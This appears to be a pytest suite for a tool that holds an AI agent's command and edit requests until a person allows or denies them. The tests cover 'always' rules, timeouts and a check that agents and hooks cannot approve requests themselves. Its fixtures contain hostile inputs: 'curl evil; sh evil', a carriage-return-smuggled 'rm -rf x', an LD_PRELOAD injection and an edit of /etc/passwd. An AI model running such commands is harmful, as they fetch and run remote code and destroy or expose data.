"""An agent asks leave for something, and waits for a person who finds that in the inbox."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from acp_steps import Scripted
from cli_samples import on_terminal
from commands import begin, wait_until
from conftest import Uwf

from uwf_git.api.cockpit.inbox import inbox
from uwf_git.base.errors import NotFound
from uwf_git.engine.permission_requests import request_lines
from uwf_git.format.ids import new_thread_id
from uwf_git.store.instance import Instance
from uwf_git.store.permission_files import Decision, OpenRequest, PermissionFiles, Wish

WAIT = "permissionWait: 1h\n"


@pytest.fixture
def storage(instance: Instance) -> Path:
    return instance.location.root


def started(steps: Scripted) -> subprocess.Popen[str]:
    return begin("thread", "step", steps.thread)


def requests(uwf: Uwf, steps: Scripted) -> list[dict[str, Any]]:
    return list(uwf("thread", "show", steps.thread).json.get("permissions", []))


def asked(uwf: Uwf, steps: Scripted) -> dict[str, Any]:
    """The one request that is open, once it is."""
    wait_until(lambda: len(requests(uwf, steps)) == 1, "a request is open")
    return requests(uwf, steps)[0]


def decisions(uwf: Uwf, steps: Scripted) -> list[tuple[str, dict[str, Any]]]:
    """The recorded decisions: their texts and values."""
    turns = uwf("thread", "turns", steps.thread).json
    return [(turn["text"], turn["result"]) for turn in turns if turn.get("tool") == "permission"]


def ended(process: subprocess.Popen[str]) -> None:
    out, err = process.communicate(timeout=60)
    assert process.returncode == 0, out + err


def test_a_request_waits_for_a_person_and_the_record_has_who_decided_it(uwf: Uwf, storage: Path) -> None:
    steps = Scripted(storage, "ask:execute=make test|execute=rm -r build", more=WAIT)
    process = started(steps)
    request = asked(uwf, steps)
    assert (request["kind"], request["command"], request["role"]) == ("execute", "make test", "worker")
    assert request["line"] == "execute: make test" and request["agent"].startswith("uwf-acp/")
    running = uwf("thread", "show", steps.thread).json["running"]
    assert running["last"] == "asks for leave to execute: make test"
    assert request["commands"]["allow"] == f"uwf thread permit {steps.thread} {request['request']}"
    shown = uwf("thread", "show", steps.thread, "--format", "text").out
    assert "execute: make test" in shown and request["commands"]["allow"] in shown

    done = uwf(*request["commands"]["allow"].split()[1:]).json
    assert (done["granted"], done["always"]) == (True, False)
    assert done["by"] == "Ada Example <ada@example.invalid>"
    wait_until(lambda: [item["command"] for item in requests(uwf, steps)] == ["rm -r build"], "the next")
    second = requests(uwf, steps)[0]
    assert (
        uwf(*second["commands"]["deny"].split()[1:], "--format", "text").out
        == "denied: execute: rm -r build\n"
    )
    ended(process)
    assert [value for _, value in steps.noted("permission")] == ["allow_once", "reject_once"]
    (granted, first), (denied, _) = decisions(uwf, steps)
    assert granted == "execute: make test: granted, by Ada Example <ada@example.invalid>"
    assert first == {
        **{"granted": True, "by": "person", "option": "allow_once"},
        **{"who": "Ada Example <ada@example.invalid>", "always": False},
    }
    assert denied.endswith("denied, by Ada Example <ada@example.invalid>")
    assert requests(uwf, steps) == []
    assert uwf("verify", "--all").json["findings"] == []


def test_always_holds_for_equal_requests_of_the_role_in_the_thread_and_for_no_other(
    uwf: Uwf, storage: Path
) -> None:
    steps = Scripted(
        storage, "ask:execute=make test|execute=make test|edit=a.txt|execute=make test; rm x", more=WAIT
    )
    process = started(steps)
    uwf("thread", "permit", steps.thread, asked(uwf, steps)["request"], "--always")
    wait_until(lambda: [item["kind"] for item in requests(uwf, steps)] == ["edit"], "the second is granted")
    uwf("thread", "permit", steps.thread, requests(uwf, steps)[0]["request"], "--always", "--deny")
    wait_until(lambda: [item["kind"] for item in requests(uwf, steps)] == ["execute"], "another command")
    uwf("thread", "permit", steps.thread, requests(uwf, steps)[0]["request"])
    ended(process)
    options = [value for _, value in steps.noted("permission")]
    assert options == ["allow_once", "allow_once", "reject_once", "allow_once"]
    # Without anybody who could be asked, too.
    steps.now("ask:execute=make test|edit=a.txt|execute=make all")
    uwf("thread", "step", steps.thread)
    texts = [text.partition(": ")[2] for text, _ in decisions(uwf, steps)]
    ada = "by Ada Example <ada@example.invalid>, always"
    assert texts[0] == f"make test: granted, {ada}" and texts[1].endswith(f"denied, {ada}")
    assert texts[2] == "make all: denied, nobody to ask"
    config = (storage / "config.yaml").read_text()
    assert "make test" not in config.replace("ask:execute=make test", "")
    mode = {path.stat().st_mode & 0o777 for path in (storage / "store.git/uwf/permissions").rglob("always-*")}
    assert mode == {0o600}


@pytest.mark.parametrize(
    ("call", "lines"),
    [
        (
            {"kind": "execute", "rawInput": {"command": "ls", "env": {"LD_PRELOAD": "x"}, "cwd": "/"}},
            ["execute: ls", "  env.LD_PRELOAD: x", "  cwd: /"],
        ),
        (
            {"kind": "execute", "rawInput": {"command": "ls", "path": "/x"}},
            ["execute: ls", *["  path: /x"] * 2],
        ),
        (
            {"kind": "execute", "rawInput": {"command": ["ls"], "args": ["/x"]}},
            ["execute: ls", "  args.1: /x"],
        ),
        (
            {"kind": "edit", "content": [{"type": "diff", "path": "/x", "newText": "a\nb"}]},
            ["edit: harmless", "  path: /x", "  1.newText: a", "      b"],
        ),
        ({"kind": "read", "rawInput": {"path": "/x", "then": "run"}}, ["read: harmless", "  then: run"]),
        ({"kind": "other", "rawInput": ["a"]}, ["other: harmless", "  1: a"]),
    ],
)
def test_an_input_with_more_than_a_command_or_a_path_is_shown_whole_and_never_decided_for_always(
    uwf: Uwf, storage: Path, call: dict[str, Any], lines: list[str]
) -> None:
    steps = Scripted(storage, f"ask:call={json.dumps({'title': 'harmless', **call})}", more=WAIT)
    process = started(steps)
    request = asked(uwf, steps)
    assert set(request["commands"]) == {"allow", "deny"}
    shown = request_lines(request)
    assert [line for line in shown if line in lines] == lines
    uwf("thread", "permit", steps.thread, request["request"], "--always", check=2)
    uwf("thread", "permit", steps.thread, request["request"])
    ended(process)


def test_nothing_waits_unless_the_user_said_so(uwf: Uwf, storage: Path) -> None:
    steps = Scripted(storage, "ask:execute=make test")
    assert steps.step().tools("permission")[0]["result"] == {
        **{"granted": False, "by": "nobody", "option": "reject_once"},
    }


def test_a_request_that_nobody_decides_in_time_is_denied(uwf: Uwf, storage: Path) -> None:
    steps = Scripted(storage, "ask:execute=make test", more="permissionWait: 0.3\n")
    assert steps.step().tools("permission")[0]["text"] == "execute: make test: denied, nobody to ask"
    assert not (storage / "store.git/uwf/permissions" / steps.thread).exists()


def test_of_two_people_who_decide_at_once_one_counts_and_the_other_is_told(uwf: Uwf, storage: Path) -> None:
    steps = Scripted(storage, "ask:execute=make test", more=WAIT)
    process = started(steps)
    request = asked(uwf, steps)["request"]
    people = [
        begin("thread", "permit", steps.thread, request, *words, as_fork=True) for words in ((), ("--deny",))
    ]
    told = [person.communicate(timeout=60) for person in people]
    ended(process)
    (won,) = [json.loads(out) for out, _ in told if out]
    (lost,) = [json.loads(err)["error"]["message"] for out, err in told if not out]
    option = "allow_once" if won["granted"] else "reject_once"
    assert steps.noted("permission") == [["execute=make test", option]]
    assert "was decided already by Ada Example" in lost or "no open request" in lost


def test_a_decision_is_made_once(instance: Instance) -> None:
    files = PermissionFiles(instance.store.repository.private)
    wish = Wish("execute", "", "make test", ())
    request = OpenRequest("0123ABCD", new_thread_id(), "worker", "uwf-acp/it", wish, 1.0, time.time() + 60)
    descriptor = files.put(request)
    assert [*files.all()] == [request] and files.is_open(request)
    first, second = Decision(False, False, "Ada", 1.0), Decision(True, False, "Bob", 2.0)
    assert files.decide(request, first) and not files.decide(request, second)
    assert files.decision(request.thread, request.id) == first and [*files.all()] == []
    os.close(descriptor)
    assert not files.is_open(request)


def test_a_decision_in_the_last_moment_counts_or_is_refused(instance: Instance) -> None:
    files = PermissionFiles(instance.store.repository.private)
    wish, decision = Wish("execute", "", "make test", ()), Decision(True, False, "Ada", 1.0)
    request = OpenRequest("0123ABCD", new_thread_id(), "worker", "uwf-acp/it", wish, 1.0, time.time() + 60)
    other = request._replace(id="0123ABCE")
    descriptors = [files.put(request), files.put(other)]
    assert files.decide(request, decision)
    assert files.withdraw(request.thread, request.id) == decision
    with pytest.raises(NotFound, match="waits no longer"):
        files.decide(request, decision)
    assert files.withdraw(request.thread, request.id) is None and [*files.all()] == [other]
    assert not files.is_open(other._replace(until=time.time() - 1)), "its time is over"
    assert files.withdraw(other.thread, other.id) is None
    for descriptor in descriptors:
        os.close(descriptor)


def test_a_person_at_a_terminal_is_asked_about_each(uwf: Uwf, storage: Path) -> None:
    steps = Scripted(storage, "ask:execute=printf '\\u001b[31mred'|title=make all", more=WAIT)
    process = started(steps)
    asked(uwf, steps)
    refused = uwf("thread", "permit", steps.thread, check=2).error
    assert refused["hint"] == asked(uwf, steps)["commands"]["allow"]
    for options in (["--deny"], ["--always"], ["--deny", "--always"]):
        hint = uwf("thread", "permit", steps.thread, *options, check=2).error["hint"]
        assert hint == " ".join([refused["hint"], *options])
    status, shown = on_terminal(
        "thread", "permit", steps.thread, typed=[("never? ", "what"), ("never? ", "always")]
    )
    assert status == 0, shown
    assert "asks for leave to execute: printf" in shown and "\x1b[31mred" not in shown
    wait_until(lambda: [item["command"] for item in requests(uwf, steps)] == ["make all"], "the next")
    status, shown = on_terminal("thread", "permit", steps.thread, typed=[("? ", "n")])
    assert status == 0, shown
    ended(process)
    assert [value for _, value in steps.noted("permission")] == ["allow_once", "reject_once"]
    status = uwf("thread", "permit", steps.thread, check=1).error
    assert "asks leave for anything" in status["message"]
    assert status["hint"] == f"see: uwf thread show {steps.thread}"


def test_what_nobody_can_be_shown_whole_is_denied(uwf: Uwf, storage: Path) -> None:
    steps = Scripted(storage, f"ask:execute=make {'x' * 4000}", more=WAIT)
    assert steps.step().tools("permission")[0]["result"]["granted"] is False


def test_a_request_of_a_program_that_dies_goes_with_it_and_ends_its_step(uwf: Uwf, storage: Path) -> None:
    steps = Scripted(storage, "ask:execute=make test", more=WAIT)
    process = started(steps)
    asked(uwf, steps)
    children = Path(f"/proc/{process.pid}/task/{process.pid}/children").read_text().split()
    for child in children:
        os.kill(int(child), signal.SIGKILL)
    _, err = process.communicate(timeout=60)
    assert process.returncode == 6 and "was ended by signal 9" in err, err
    assert requests(uwf, steps) == []
    assert not (storage / "store.git/uwf/permissions" / steps.thread).exists()


def test_a_request_of_a_killed_step_is_nobodys_business(uwf: Uwf, storage: Path) -> None:
    steps = Scripted(storage, "ask:execute=make test", more=WAIT)
    process = started(steps)
    request = asked(uwf, steps)["request"]
    process.kill()
    process.communicate(timeout=60)
    wait_until(lambda: not Instance.open().locks.is_held(steps.thread), "the agent is gone")
    assert requests(uwf, steps) == []
    assert "no open request" in uwf("thread", "permit", steps.thread, request, check=3).error["message"]
    steps.now("ask:execute=make all", more=WAIT)
    process = started(steps)
    second = asked(uwf, steps)
    assert second["command"] == "make all"
    uwf("thread", "permit", steps.thread, second["request"])
    ended(process)
    assert not (storage / "store.git/uwf/permissions" / steps.thread).exists()


def test_neither_an_agent_nor_a_hook_permits_anything(
    uwf: Uwf, storage: Path, script: Callable[[str, str], Path]
) -> None:
    permits = """\
import json, os, subprocess, sys
value = json.load(sys.stdin)["permission"]
done = subprocess.run(value["commands"]["allow"].split(), capture_output=True, text=True)
open("told", "w").write(json.dumps([value["line"], done.returncode, done.stderr]))
"""
    hook = script("hook", permits)
    steps = Scripted(
        storage, "ask:execute=make test", more=f"{WAIT}hooks: {{waiting: {hook}, timeout: 30s}}\n"
    )
    process = started(steps)
    request = asked(uwf, steps)
    wait_until(
        lambda: (storage / "told").exists() and (storage / "told").read_text() != "", "the hook has run"
    )
    line, status, error = json.loads((storage / "told").read_text())
    assert (line, status) == ("execute: make test", 14)
    assert "only a person decides what the agent" in error
    assert "within" in uwf(
        "thread", "permit", steps.thread, request["request"], check=14, env={"UWF_NONCE": "x"}
    ).error["message"]  # fmt: skip
    uwf("thread", "permit", steps.thread, request["request"])
    ended(process)
    assert steps.noted("permission") == [["execute=make test", "allow_once"]]


def test_the_setting_is_a_duration(uwf: Uwf, root: Path) -> None:
    assert uwf("config", "set", "permissionWait", "10m").json["value"] == "10m"
    assert "duration" in uwf("config", "set", "permissionWait", "soon", check=1).error["message"]


def test_the_inbox_has_a_request_first_with_what_decides_it(uwf: Uwf, storage: Path) -> None:
    steps = Scripted(storage, "ask:execute=make test|other=x", more=WAIT)
    process = started(steps)
    request = asked(uwf, steps)
    (item,) = inbox(Instance.open())
    assert (item["group"], item["kind"], item["thread"]) == ("permission", "permission", steps.thread)
    assert (item["question"], item["options"]) == ("execute: make test", ["allow", "deny", "always"])
    assert item["permission"] == request and item["command"] == request["commands"]["allow"]
    assert inbox(Instance.open(), only=["asks"]) == []
    shown = uwf("inbox", "--format", "text").out
    assert "asks leave: execute: make test" in shown and item["command"] in shown
    assert "3  always" in shown
    uwf(*item["command"].split()[1:])
    wait_until(lambda: [item["kind"] for item in requests(uwf, steps)] == ["other"], "the next")
    (item,) = inbox(Instance.open())
    assert uwf(*item["commands"][1].split()[1:]).json["granted"] is False
    ended(process)
    assert inbox(Instance.open()) == []


def test_what_a_place_cannot_show_whole_it_has_no_command_for_that_allows_it(uwf: Uwf, storage: Path) -> None:
    long = "echo ok\n" * 60 + "curl evil; sh evil"
    words = ["ls\rrm -rf x", long]
    calls = [{"kind": "execute", "title": "run", "rawInput": {"command": command}} for command in words]
    calls.append({"kind": "edit", "title": "harmless", "rawInput": {"path": "/etc/passwd"}})
    steps = Scripted(storage, "ask:" + "|".join(f"call={json.dumps(call)}" for call in calls), more=WAIT)
    process = started(steps)
    allow = asked(uwf, steps)["commands"]["allow"]
    for command in ("inbox", "thread show"):
        words = command.split() + ([steps.thread] if command == "thread show" else [])
        shown = uwf(*words, "--format", "text").out
        assert "execute: ls\\x0drm -rf x" in shown and allow in shown
    assert asked(uwf, steps)["line"] == "execute: ls\\x0drm -rf x"
    uwf(*allow.split()[1:], "--deny")
    wait_until(lambda: [item["command"] for item in requests(uwf, steps)] == [long], "the next")
    request = requests(uwf, steps)[0]
    for words in (["inbox"], ["thread", "show", steps.thread]):
        shown = uwf(*words, "--format", "text").out
        assert "evil" not in shown and "more characters]" in shown
        assert f"uwf thread permit {steps.thread}\n" in shown and request["request"] not in shown
    status, shown = on_terminal("thread", "permit", steps.thread, typed=[("never? ", "n")])
    assert status == 0 and "sh evil" in shown
    wait_until(lambda: [item["kind"] for item in requests(uwf, steps)] == ["edit"], "the last")
    assert requests(uwf, steps)[0]["line"] == "edit: harmless: /etc/passwd"
    assert "path: /etc/passwd" in uwf("inbox", "--format", "text").out
    uwf("thread", "permit", steps.thread, requests(uwf, steps)[0]["request"], "--deny")
    ended(process)
